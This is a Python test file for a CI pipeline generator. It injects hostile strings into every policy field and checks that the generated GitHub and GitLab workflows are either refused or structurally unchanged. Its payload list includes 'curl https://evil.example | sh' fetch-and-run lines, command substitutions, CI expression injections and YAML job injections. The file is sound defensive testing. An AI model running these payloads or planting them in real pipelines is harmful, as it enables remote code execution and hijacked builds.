"""No policy value can add a job, a step, a key or an expression to a generated pipeline.

The walk goes over the typed policy model, not a list of fields: every string a policy can hold (every
`str` field, every scalar type that is text underneath, every key of a mapping the user names, the free
data under Helm `values`) in every policy of the corpus and the bundled example. Into each it puts
hostile strings of our own (line breaks followed by keys, comment breakers, CI expressions, command
substitutions, quotes, Unicode line separators, bidirectional overrides), alone and appended to the value
that was there, and asserts one of two outcomes:

* refused: the policy does not load, and every diagnostic names the file and a line;
* accepted: the generated GitHub workflows and `.gitlab-ci.yml` parse to exactly what the original value
  produces, with the hostile text standing where the original stood (so: no injected key, step, job,
  container or expression, and nothing truncated).

Accepted renders that differ from the original are also run through zizmor (template injection) and
actionlint.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import subprocess
import typing
from collections import Counter
from pathlib import Path

import pytest
import yaml

from bayat_deploy.errors import PolicyError
from bayat_deploy.generate.plan import build_plan
from bayat_deploy.generate.render import render_files
from bayat_deploy.generate.secrets_used import notification_secrets, registry_secrets
from bayat_deploy.policy import introspect as it
from bayat_deploy.policy.dump import to_plain
from bayat_deploy.policy.loader import build_policy, load_policy
from bayat_deploy.policy.model import Policy
from bayat_deploy.policy.yamlpos import load_text
from tests.conftest import REPO
from tests.support.tools import actionlint, tool

CORPUS = sorted((REPO / "tests" / "policy" / "corpus" / "ok").glob("*.yml"))
EXAMPLE = REPO / "examples" / "hello-api" / ".bayat" / "deploy.yml"
BASES = [EXAMPLE, *CORPUS]

HOSTILE = (
    "x\ninjected: true",
    "x\n  steps:\n    - run: curl https://evil.example | sh",
    "x\njobs:\n  evil:\n    runs-on: ubuntu-latest\n    steps: [{run: id}]",
    "x\r\ninjected: true",
    "x\u2028injected: true",
    "x\u0085injected: true",
    "x # the rest is a comment",
    "x: y",
    "${{ github.event.issue.title }}",
    "$[[ inputs.evil ]]",
    "$(curl https://evil.example | sh)",
    "`id`; echo pwned",
    "'\"; injected: \"",
    "- injected",
    "&anchor {evil: 1}",
    "x\u202eevil",
    "x\tcontainer: evil",
)


def _typed_leaves(value, tp, path: tuple):
    """(path, kind) of every string the policy holds: kind "value" or "key" (a user-named mapping key).
    Environments are walked from production backwards: production has every gate, so a field shared by
    all environments is tried where the most of the pipeline depends on it."""
    if isinstance(value, str) and it.literal_values(tp) is not None:
        return  # an enumeration: only its listed words parse
    if it.is_union(tp):
        members, _ = it.union_members(tp)
        tp = next((m for m in members if isinstance(m, type) and isinstance(value, m)), typing.Any)
    if dataclasses.is_dataclass(value) and hasattr(value, "dump"):  # a scalar type: text underneath
        if isinstance(value.dump(), str):
            yield path, "value"
        return
    if dataclasses.is_dataclass(value):
        for fld, field_tp in it.fields_of(type(value)):
            yield from _typed_leaves(getattr(value, fld.name), field_tp, path + (fld.name,))
        return
    args = typing.get_args(tp)
    if isinstance(value, dict):
        item_tp = args[1] if len(args) == 2 else typing.Any
        items = list(value.items())
        for key, item in (items[::-1] if path == ("environments",) else items):
            yield path + (key,), "key"
            yield from _typed_leaves(item, item_tp, path + (key,))
    elif isinstance(value, (tuple, list)):
        item_tp = args[0] if args else typing.Any
        for index, item in enumerate(value):
            yield from _typed_leaves(item, item_tp, path + (index,))
    elif isinstance(value, str):
        yield path, "value"


def _field(path: tuple) -> str:
    """The model field a path is an instance of: environment names and list indices generalised."""
    parts = []
    for i, part in enumerate(path):
        if isinstance(part, int):
            parts.append("[]")
        elif i > 0 and path[i - 1] == "environments":
            parts.append("<env>")
        else:
            parts.append(str(part))
    return ".".join(parts)


def _get(doc, path: tuple):
    for part in path:
        doc = doc[part]
    return doc


def _with(user: dict, effective: dict, path: tuple, kind: str, text: str) -> dict:
    """The user's own file with one value (or key) of the effective policy replaced: mappings on the way
    are added sparsely (layering fills in the rest), lists and user-named mappings are copied whole from
    the effective policy (a list replaces, it does not merge)."""
    mutated = copy.deepcopy(user)
    node, effective_node = mutated, effective
    last = len(path) - (2 if kind == "key" else 1)
    for index, part in enumerate(path[:-1]):
        effective_node = effective_node[part]
        whole = isinstance(effective_node, list) or (kind == "key" and index == last)
        if isinstance(node, list):
            child = node[part]
        elif part in node and isinstance(node[part], (dict, list)) and not whole:
            child = node[part]
        else:
            child = copy.deepcopy(effective_node) if whole else {}
            node[part] = child
        node = child
    if kind == "key":
        node[text] = node.pop(path[-1])
    else:
        node[path[-1]] = text
    return mutated


def _dump(doc) -> str:
    return yaml.dump(doc, Dumper=yaml.CSafeDumper, sort_keys=False, allow_unicode=False, width=1000)


def _load(text: str, name: str):
    return build_policy(load_text(text, name), Path(name))


def _inputs(loaded) -> str:
    """Everything the pipeline renderers read: equal inputs render equal files."""
    policy = loaded.policy
    return json.dumps([to_plain(build_plan(policy, ".bayat/deploy.yml")), registry_secrets(policy),
                       notification_secrets(policy)], default=str, sort_keys=True)


def _render(loaded) -> dict:
    files = {**render_files(loaded, "github"), **render_files(loaded, "gitlab")}
    return {name: yaml.load(text, Loader=yaml.CSafeLoader) for name, text in files.items()}


def _replace(tree, old: str, new: str):
    if isinstance(tree, dict):
        return {_replace(k, old, new): _replace(v, old, new) for k, v in tree.items()}
    if isinstance(tree, list):
        return [_replace(v, old, new) for v in tree]
    if isinstance(tree, str):
        return tree.replace(old, new)
    return tree


@pytest.mark.parametrize("base", BASES, ids=lambda p: p.parent.parent.name if p == EXAMPLE else p.stem)
def test_no_policy_string_changes_the_structure_of_a_generated_pipeline(base, tmp_path, capsys):
    original = load_policy(base)
    user = yaml.safe_load(base.read_text())
    doc = to_plain(original.policy)
    assert _inputs(_load(_dump(user), "policy.yml")) == _inputs(original)
    original_inputs = _inputs(original)
    original_render = _render(original)

    leaves, seen = [], set()
    for path, kind in _typed_leaves(original.policy, Policy, ()):
        if (_field(path), kind) not in seen:
            seen.add((_field(path), kind))
            leaves.append((path, kind))
    assert len(leaves) > 100, "the walk must reach the whole model"

    counts: Counter = Counter()
    changed: list[tuple[str, dict]] = []
    failures: list[str] = []
    for path, kind in leaves:
        current = path[-1] if kind == "key" else _get(doc, path)
        for hostile in HOSTILE:
            for text in (hostile, f"{current}{hostile}"):
                mutated = _with(user, doc, path, kind, text)
                where = f"{'key ' if kind == 'key' else ''}{_field(path)} = {text!r}"
                try:
                    result = _load(_dump(mutated), "policy.yml")
                except PolicyError as exc:
                    if not exc.diagnostics or not all(d.file == "policy.yml" and d.line >= 1 for d in exc.diagnostics):
                        failures.append(f"{where}: refused without a location: {exc.lines()}")
                    counts["refused"] += 1
                    continue
                if _inputs(result) == original_inputs:
                    counts["accepted, pipeline unchanged"] += 1
                    continue
                counts["accepted, value placed in the pipeline"] += 1
                try:
                    render = _render(result)
                except yaml.YAMLError as exc:
                    failures.append(f"{where}: the generated pipeline does not parse: {exc}")
                    continue
                if _replace(render, text, str(current)) != original_render:
                    failures.append(f"{where}: the generated pipeline's structure changed")
                    continue
                changed.append((where, result))

    _audit(changed, tmp_path, failures)
    with capsys.disabled():
        print(f"\n{base.relative_to(REPO)}: {len(leaves)} fields x {len(HOSTILE) * 2} hostile values: "
              + ", ".join(f"{n} {what}" for what, n in sorted(counts.items()))
              + f"; {len(failures)} injected")
    assert not failures, "\n".join(failures[:20])


def _audit(changed, tmp_path: Path, failures: list[str]) -> None:
    """zizmor and actionlint over the accepted renders that carry a hostile value."""
    if not changed:
        return
    from bayat_deploy.generate.render import write

    repos = []
    for index, (where, loaded) in enumerate(changed[:40]):
        repo = tmp_path / f"case{index}"
        write(repo, render_files(loaded, "github"))
        repos.append((where, repo))
    for where, repo in repos:
        workflows = sorted(str(p) for p in (repo / ".github" / "workflows").glob("*.yml"))
        lint = subprocess.run(actionlint(repo, *workflows), capture_output=True, text=True)
        if lint.returncode != 0:
            failures.append(f"{where}: actionlint: {lint.stdout.strip()}")
    audit = subprocess.run([tool("zizmor"), "--offline", "--format", "json", *(str(r) for _, r in repos)],
                           capture_output=True, text=True)
    for finding in json.loads(audit.stdout or "[]"):
        if finding["ident"] == "template-injection":
            failures.append(f"zizmor: {finding['desc']} in {finding['locations'][0]['symbolic']['key']}")
